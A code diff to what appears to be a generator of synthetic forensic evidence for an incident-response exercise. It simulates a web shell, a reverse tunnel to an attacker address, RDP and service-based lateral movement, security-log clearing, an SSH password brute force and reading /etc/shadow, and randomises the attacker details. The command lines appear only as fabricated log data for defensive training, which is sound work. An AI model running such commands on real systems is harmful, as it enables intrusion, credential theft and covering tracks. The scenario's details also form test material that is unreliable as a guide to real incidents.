@@ -19,8 +19,7 @@ DESCRIPTION = Text(
     "A web shell on the public server; the intruder reached three more servers inside.")
 FIRST, END = date(2026, 8, 15), datetime(2026, 8, 21, 10, 0)  # noqa: DTZ001 (local time of the company)
 
-_ATTACKER = "198.51.100.23"
-_SHELL, _UPLOADER = "/portal/upload/img_0819.aspx", "/portal/UploadHandler.ashx"
+_UPLOADER = "/portal/UploadHandler.ashx"
 _NEW, _ADMIN, _LINUX_USER = "svc_iisupd", "svc_deploy", "monitor"
 _SYSTEM32 = "C:\\Windows\\System32\\"
 _WORKER = _SYSTEM32 + "inetsrv\\w3wp.exe"
@@ -44,12 +43,18 @@ class _Attack:
     def __init__(self, world: World) -> None:
         self.world, self.do, self.story = world, Actions(world, NAME), Story(NAME)
 
+        self.delay = world.cast("delay", 0, -95, -41, 1) * MINUTE
+        self.attacker = world.cast("attacker", "198.51.100.23", "203.0.113.52", "192.0.2.14")
+        self.file = world.cast("shell", "img_0819.aspx", "help2.aspx", "thumb.ashx")
+        self.shell = f"/portal/upload/{self.file}"
+        self.desktop, self.serviced = world.cast("servers", ("SQL01", "APP01"), ("APP01", "SQL01"))
+
     def at(self, clock: str, day: int = _DAY) -> int:
-        return self.world.at(day, clock)
+        return self.world.at(day, clock) + self.delay
 
     def _hit(self, time: int, method: str, path: str, status: int, *, query: str = "-", taken: int = 40) -> Record:
         return self.do.evidence.line(IIS, time, logs.iis(
-            time, server=self.world.host("WEB01").address, client=_ATTACKER, method=method, path=path, query=query,
+            time, server=self.world.host("WEB01").address, client=self.attacker, method=method, path=path, query=query,
             status=status, agent="python-requests/2.32.3" if status == 404 else "Mozilla/5.0+(X11;+Linux+x86_64)",
             taken_ms=taken))
 
@@ -61,25 +66,25 @@ class _Attack:
             known = word == "portal/UploadHandler.ashx"
             self._hit(self.at("21:02:11") + number * 3 * SECOND, "GET", f"/{word}{'' if known else f'/{number:03d}'}",
                       405 if known else 404, taken=3)
-        self.do.traffic(_ATTACKER, self.world.host("WEB01").address, 443, self.at("21:02:10"), duration=430,
+        self.do.traffic(self.attacker, self.world.host("WEB01").address, 443, self.at("21:02:10"), duration=430,
                         sent=90_000, received=240_000, interfaces=("wan1", "dmz"))
 
     def plant_shell(self) -> None:
         do, story = self.do, self.story
         time = self.at("21:14:37")
         records = [self._hit(time, "POST", _UPLOADER, 200, query="t=img", taken=212),
-                   self._hit(time + 15 * SECOND, "GET", _SHELL, 200, taken=1430)]
-        disk = "C:\\inetpub\\wwwroot\\portal\\upload\\img_0819.aspx"
+                   self._hit(time + 15 * SECOND, "GET", self.shell, 200, taken=1430)]
+        disk = f"C:\\inetpub\\wwwroot\\portal\\upload\\{self.file}"
         created = do.file_created("WEB01", POOL, time + SECOND, _WORKER, disk)
         moment = time + 30 * SECOND
         for _ in range(64):
-            records.append(self._hit(moment, "POST", _SHELL, 200, taken=do.rng.randrange(40, 2600)))
+            records.append(self._hit(moment, "POST", self.shell, 200, taken=do.rng.randrange(40, 2600)))
             moment += do.rng.randrange(8 * SECOND, 190 * SECOND)
         story.may("compromised_accounts", POOL)
-        story.entry("web_shell", time, records + created, source=_ATTACKER, account=None, host="WEB01")
-        story.claim("persistence", ["WEB01", "web_shell", "img_0819.aspx"], time, records + created)
-        story.aliases["img_0819.aspx"] = [_SHELL, disk]
-        story.may("c2", _ATTACKER)
+        story.entry("web_shell", time, records + created, source=self.attacker, account=None, host="WEB01")
+        story.claim("persistence", ["WEB01", "web_shell", self.file], time, records + created)
+        story.aliases[self.file] = [self.shell, disk]
+        story.may("c2", self.attacker)
         for minute, command in ((2, "whoami"), (3, "ipconfig /all"), (4, "net user"), (5, "systeminfo"), (9, "arp -a")):
             records += do.process("WEB01", POOL, 0x5A3C1, time + minute * MINUTE, CMD, f'cmd.exe /c "{command}"',
                                   _WORKER, _WORKER + ' -ap "PortalPool" -v "v4.0"')
@@ -125,38 +130,38 @@ class _Attack:
         # A desktop on the web server itself, through a tunnel that ends at its loopback address.
         time = self.at("22:48:30")
         do.process("WEB01", "SYSTEM", 0x3E7, time - MINUTE, "C:\\Windows\\Temp\\ch.exe",
-                   f"ch.exe client {_ATTACKER}:443 R:3390:127.0.0.1:3389", "C:\\Windows\\Temp\\gp.exe")
-        do.traffic(web, _ATTACKER, 443, time - MINUTE, duration=7300, sent=64_000_000, received=9_000_000,
+                   f"ch.exe client {self.attacker}:443 R:3390:127.0.0.1:3389", "C:\\Windows\\Temp\\gp.exe")
+        do.traffic(web, self.attacker, 443, time - MINUTE, duration=7300, sent=64_000_000, received=9_000_000,
                    interfaces=("dmz", "wan1"))
         do.rdp("127.0.0.1", "WEB01", _NEW, time, minutes=112, client_name="kali")
-        for source in ("127.0.0.1", "WEB01", _ATTACKER):
+        for source in ("127.0.0.1", "WEB01", self.attacker):
             story.may("spread", [source, "WEB01", _NEW, "rdp"])
         time = self.at("23:05:18")
-        logon_id, records = do.rdp(web, "SQL01", _ADMIN, time, minutes=95, used_by=_NEW, client_name="WEB01")
-        records += do.traffic(web, world.host("SQL01").address, 3389, time, duration=5700, sent=9_000_000,
+        logon_id, records = do.rdp(web, self.desktop, _ADMIN, time, minutes=95, used_by=_NEW, client_name="WEB01")
+        records += do.traffic(web, world.host(self.desktop).address, 3389, time, duration=5700, sent=9_000_000,
                               received=70_000_000, interfaces=("dmz", "lan"), service="RDP")
-        story.spread("WEB01", "SQL01", _ADMIN, "rdp", time, records)
-        do.process("SQL01", _ADMIN, logon_id, time + 4 * MINUTE, CMD, '"C:\\Windows\\system32\\cmd.exe"',
+        story.spread("WEB01", self.desktop, _ADMIN, "rdp", time, records)
+        do.process(self.desktop, _ADMIN, logon_id, time + 4 * MINUTE, CMD, '"C:\\Windows\\system32\\cmd.exe"',
                    "C:\\Windows\\explorer.exe")
         time = self.at("23:20:06")
-        logon_id, records = do.remote_service("WEB01", "APP01", _ADMIN, time, used_by=_NEW, name=_SERVICE,
+        logon_id, records = do.remote_service("WEB01", self.serviced, _ADMIN, time, used_by=_NEW, name=_SERVICE,
                                               image=_SERVICE_IMAGE + " -svc", drop="Temp\\wdu.exe")
-        records += do.traffic(web, world.host("APP01").address, 445, time - 30 * SECOND, duration=200, sent=740_000,
-                              received=21_000, interfaces=("dmz", "lan"), service="SMB")
-        story.spread("WEB01", "APP01", _ADMIN, "service", time, records)
-        story.claim("persistence", ["APP01", "service", _SERVICE], time, records)
+        records += do.traffic(web, world.host(self.serviced).address, 445, time - 30 * SECOND, duration=200,
+                              sent=740_000, received=21_000, interfaces=("dmz", "lan"), service="SMB")
+        story.spread("WEB01", self.serviced, _ADMIN, "service", time, records)
+        story.claim("persistence", [self.serviced, "service", _SERVICE], time, records)
         time = self.at("23:58:31")
-        do.process("APP01", "SYSTEM", 0x3E7, time - SECOND, _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security",
+        do.process(self.serviced, "SYSTEM", 0x3E7, time - SECOND, _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security",
                    _SERVICE_IMAGE)
-        records = do.log_cleared("APP01", "SYSTEM", 0x3E7, time)
-        story.claim("log_gaps", ["APP01", "cleared"], time, records)
-        story.may("log_gaps", ["APP01", "silence"])
+        records = do.log_cleared(self.serviced, "SYSTEM", 0x3E7, time)
+        story.claim("log_gaps", [self.serviced, "cleared"], time, records)
+        story.may("log_gaps", [self.serviced, "silence"])
 
     def reach_linux(self) -> None:
         """From the SQL server: passwords tried against sshd until one fits."""
         do, story, world = self.do, self.story, self.world
-        address = world.host("SQL01").address
-        do.process("SQL01", _ADMIN, world.next_logon_id(), self.at("23:54:02"), "C:\\Users\\Public\\hy.exe",
+        address = world.host(self.desktop).address
+        do.process(self.desktop, _ADMIN, world.next_logon_id(), self.at("23:54:02"), "C:\\Users\\Public\\hy.exe",
                    "hy.exe -L u.txt -P p.txt ssh://10.20.1.61", CMD)
         time = self.at("23:55:10")
         records: list[Record] = []
@@ -169,7 +174,7 @@ class _Attack:
             time += do.rng.randrange(9 * SECOND, 17 * SECOND)
         time = self.at("00:13:29", _DAY + 1)
         records = ssh_session(do, _LINUX_USER, address, time, method="password", minutes=34) + records
-        story.spread("SQL01", "LNX01", _LINUX_USER, "ssh", time, records)
+        story.spread(self.desktop, "LNX01", _LINUX_USER, "ssh", time, records)
         do.evidence.line(AUTH, time + 3 * MINUTE, logs.syslog(
             time + 3 * MINUTE, "LNX01", "sudo",
             f"{_LINUX_USER} : TTY=pts/1 ; PWD=/home/{_LINUX_USER} ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"))
